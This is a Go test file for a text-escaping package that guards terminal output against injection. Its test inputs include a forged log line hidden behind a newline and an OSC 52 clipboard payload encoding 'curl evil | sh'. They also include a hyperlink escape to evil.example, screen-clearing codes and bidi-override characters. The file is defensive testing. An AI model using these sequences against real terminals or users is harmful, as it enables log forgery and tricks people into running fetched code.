package safetext

import (
	"bytes"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"

	"maunium.net/go/mautrix/id"
)

// fakeLine is what a room id with a newline would print as a line of its
// own in `rtcctl tail`: a session_ended of a room it does not name.
const fakeLine = "!a:hs1.test\n2023-11-14T22:13:24.000Z  session_ended    !victim:hs1.test  m.call call=\"\"  reason=expired"

func TestEscape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "!room:hs1.test", "!room:hs1.test"},
		{"non-ASCII letters and emoji stay", "!café:hs1.test 📞", "!café:hs1.test 📞"},
		{"newline makes no fake line", fakeLine, `!a:hs1.test\n2023-11-14T22:13:24.000Z  session_ended    !victim:hs1.test  m.call call=""  reason=expired`},
		{"CR", "ok\rforged", `ok\rforged`},
		{"OSC 52 sets the clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a`},
		{"OSC 8 hyperlink with ST", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\`},
		{"CSI clears the screen", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
		{"C1 CSI", "\u009b31mred", `\u009b31mred`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"BEL, backspace, form feed, vertical tab, NUL", "\a\b\f\v\x00", `\a\b\f\v\x00`},
		{"tab would shift columns", "a\tb", `a\tb`},
		{"bidi override", "!\u202eelbisivni:hs1.test", `!\u202eelbisivni:hs1.test`},
		{"bidi embeddings and isolates", "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069", `\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069`},
		{"directional marks", "\u200e\u200f\u061c", `\u200e\u200f\u061c`},
		{"zero-width", "a\u200bb\u200cc\u200dd\u2060e\ufeff", `a\u200bb\u200cc\u200dd\u2060e\ufeff`},
		{"invisible fillers", "\u3164\u115f\u1160\uffa0\u034f\u00ad", `\u3164\u115f\u1160\uffa0\u034f\u00ad`},
		{"line and paragraph separators", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"no-break space", "a\u00a0b", `a\u00a0b`},
		{"tag characters", "a\U000e0041b", `a\U000e0041b`},
		{"private use", "\ue000", `\ue000`},
		{"not UTF-8", "a\xffb\xc2", `a\xffb\xc2`},
		{"a replacement character is a character", "a\ufffdb", "a\ufffdb"},
		{"backslash is escaped: an escape cannot be forged", `\x1b`, `\\x1b`},
		{"double quotes stay", `say "hi"`, `say "hi"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(Escape(tt.in))
			if got != tt.want {
				t.Fatalf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if bad := FirstUnsafe(got); bad >= 0 {
				t.Fatalf("Escape(%q) = %q has an unsafe character at %d", tt.in, got, bad)
			}
		})
	}
}

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{
		"_@a:hs1.test_D_m.call": `"_@a:hs1.test_D_m.call"`,
		"a\"b\n\u202e":          `"a\"b\n\u202e"`,
		"":                      `""`,
	} {
		if got := string(Quote(in)); got != want {
			t.Errorf("Quote(%q) = %s, want %s", in, got, want)
		}
	}
}

func TestSprintf(t *testing.T) {
	room := id.RoomID("!a:hs\n1")
	tests := []struct {
		name   string
		format string
		args   []any
		want   string
	}{
		{"named string type", "room %s", []any{room}, `room !a:hs\n1`},
		{"string with width", "[%-6s]", []any{"a\tb"}, `[a\tb  ]`},
		{"error", "err: %s", []any{errors.New("bad\x1b[31m")}, `err: bad\x1b[31m`},
		{"bytes", "%s", []any{[]byte("x\ry")}, `x\ry`},
		{"named byte slice", "%s", []any{json.RawMessage("{\"a\":\"\u202e\"}")}, `{"a":"\u202e"}`},
		{"numbers unchanged", "%d %5.1f %t", []any{42, 1.25, true}, "42   1.2 true"},
		{"Text passed as is, not escaped twice", "%s|%s", []any{Sprintf("%s", "a\nb"), Text(`\n`)}, `a\nb|\n`},
		{"format's own newline and tab", "%s\t%s\n", []any{"a", "b"}, "a\tb\n"},
		{"Join", "%s", []any{Join([]id.UserID{"@a:x", "@b\u202e:x"}, ",")}, `@a:x,@b\u202e:x`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(Sprintf(tt.format, tt.args...)); got != tt.want {
				t.Fatalf("got %q, want %q", got, tt.want)
			}
			var b bytes.Buffer
			if _, err := Fprintf(&b, tt.format, tt.args...); err != nil || b.String() != tt.want {
				t.Fatalf("Fprintf: %q %v, want %q", b.String(), err, tt.want)
			}
		})
	}
}

// TestJSON: the encoder's output decodes to exactly what was encoded, and
// holds no raw DEL or C1 control; bidi characters stay as they are.
func TestJSON(t *testing.T) {
	type v struct {
		Room string `json:"room"`
	}
	tests := []struct {
		name, in string
		want     string // the encoded line
	}{
		{"plain", "!a:hs1.test", `{"room":"!a:hs1.test"}`},
		{"C0 escaped by encoding/json", "a\nb\x1b]52;c;x\x07", `{"room":"a\nb\u001b]52;c;x\u0007"}`},
		{"DEL", "a\x7fb", `{"room":"a\u007fb"}`},
		{"C1", "a\u009b31m\u0085\u0080\u009f", `{"room":"a\u009b31m\u0085\u0080\u009f"}`},
		{"bidi stays", "a\u202eb\u200b", "{\"room\":\"a\u202eb\u200b\"}"},
		{"other two-byte characters stay", "é\u00a0\u00bf", "{\"room\":\"é\u00a0\u00bf\"}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := NewJSONEncoder(&b).Encode(v{tt.in}); err != nil {
				t.Fatal(err)
			}
			if got := strings.TrimSuffix(b.String(), "\n"); got != tt.want {
				t.Fatalf("got %s, want %s", got, tt.want)
			}
			var back v
			if err := json.Unmarshal(b.Bytes(), &back); err != nil || back.Room != tt.in {
				t.Fatalf("decodes to %q (%v), want %q", back.Room, err, tt.in)
			}
			for _, r := range b.String() {
				if r == 0x7f || (r >= 0x80 && r <= 0x9f) {
					t.Fatalf("raw %U in %q", r, b.String())
				}
			}
		})
	}
}

func FuzzEscape(f *testing.F) {
	for _, s := range []string{fakeLine, "\x1b]52;c;x\x07", "\u202e", "\xff\xc2\x9b", `\\x1b`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := string(Escape(s))
		if i := FirstUnsafe(e); i >= 0 || strings.Contains(e, "\n") {
			t.Fatalf("Escape(%q) = %q: unsafe at %d", s, e, i)
		}
		// Unambiguous: the escape of s reads back as s (Go string syntax).
		back, err := strconv.Unquote(`"` + strings.ReplaceAll(e, `"`, `\"`) + `"`)
		if err != nil || back != s {
			t.Fatalf("Escape(%q) = %q reads back as %q (%v)", s, e, back, err)
		}
	})
}
